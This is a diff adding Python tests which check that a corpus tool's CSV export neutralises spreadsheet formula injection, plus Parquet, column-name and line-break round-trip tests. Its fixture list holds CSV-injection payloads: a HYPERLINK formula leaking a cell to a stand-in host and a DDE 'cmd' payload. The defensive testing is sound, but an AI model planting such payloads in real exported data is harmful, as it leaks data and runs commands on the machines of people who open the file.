@@ -237,3 +237,54 @@ def test_dask_reports_a_failing_article_and_keeps_the_others(folder, monkeypatch
     table, errors = corpus.dask_feature_table(folder, scheduler="sync")
     assert table["id"].tolist() == ["a0", "a2"]
     assert errors == [f"{folder / 'a1.txt'}: could not be analysed (RuntimeError: boom)"]
+
+
+# -- CSV a spreadsheet opens safely (OWASP: CSV injection) ---------------------------------------
+
+FORMULAS = ['=HYPERLINK("http://example.invalid/?leak="&A1, "click")', "+1+cmd|' /C calc'!A0",
+            "-2+3", "@SUM(1+1)", "\tindented", "\rreturn"]
+
+
+def read_cells(path: Path) -> list[list[str]]:
+    import csv
+
+    with open(path, encoding="utf-8", newline="") as handle:
+        return list(csv.reader(handle))
+
+
+def test_csv_text_cells_that_a_spreadsheet_would_run_get_a_leading_quote(tmp_path):
+    safe = ["plain", "a=b", " =1+1", "-3", "+1.5e3", "'quoted", ""]
+    table = pd.DataFrame({"text": FORMULAS + safe,
+                          "number": [-1.5, -2, 3, 0, 4, -5, 6, 7, 8, 9, 10, 11, 12]})
+    corpus.write_table(table, tmp_path / "out.csv")
+    rows = read_cells(tmp_path / "out.csv")
+    assert rows[0] == ["text", "number"]
+    assert [row[0] for row in rows[1:7]] == ["'" + cell for cell in FORMULAS]
+    assert [row[0] for row in rows[7:]] == safe  # no trigger first, or only a number: unchanged
+    assert [row[1] for row in rows[1:4]] == ["-1.5", "-2.0", "3.0"]  # numbers stay numbers
+    back = pd.read_csv(tmp_path / "out.csv", keep_default_na=False)
+    assert back["number"].dtype == float and back["number"].iloc[0] == -1.5
+    assert [corpus.restore_formulas(cell) for cell in back["text"]] == FORMULAS + safe
+    assert table["text"].tolist() == FORMULAS + safe  # the caller's table is not changed
+
+
+def test_parquet_keeps_the_values_as_they_are(tmp_path):
+    table = pd.DataFrame({"text": FORMULAS})
+    corpus.write_table(table, tmp_path / "out.parquet")
+    assert pd.read_parquet(tmp_path / "out.parquet")["text"].tolist() == FORMULAS
+
+
+def test_column_names_and_categories_are_neutralised_too():
+    table = pd.DataFrame({"=cmd": pd.Categorical(["@x", "y"]), "ok": [1, 2]})
+    neutral = corpus.neutralise_formulas(table)
+    assert list(neutral.columns) == ["'=cmd", "ok"]
+    assert neutral["'=cmd"].tolist() == ["'@x", "y"] and neutral["ok"].tolist() == [1, 2]
+    plain = pd.DataFrame({"a": ["x", None], "b": [-1, 2]})
+    assert corpus.neutralise_formulas(plain) is plain  # nothing to change: no copy
+
+
+def test_csv_cells_with_line_breaks_read_back_whole(tmp_path):
+    cells = ["one\rtwo", "three\nfour", "five\r\nsix", "plain"]
+    corpus.write_table(pd.DataFrame({"text": cells, "n": range(4)}), tmp_path / "out.csv")
+    back = pd.read_csv(tmp_path / "out.csv")
+    assert back["text"].tolist() == cells and back["n"].tolist() == [0, 1, 2, 3]
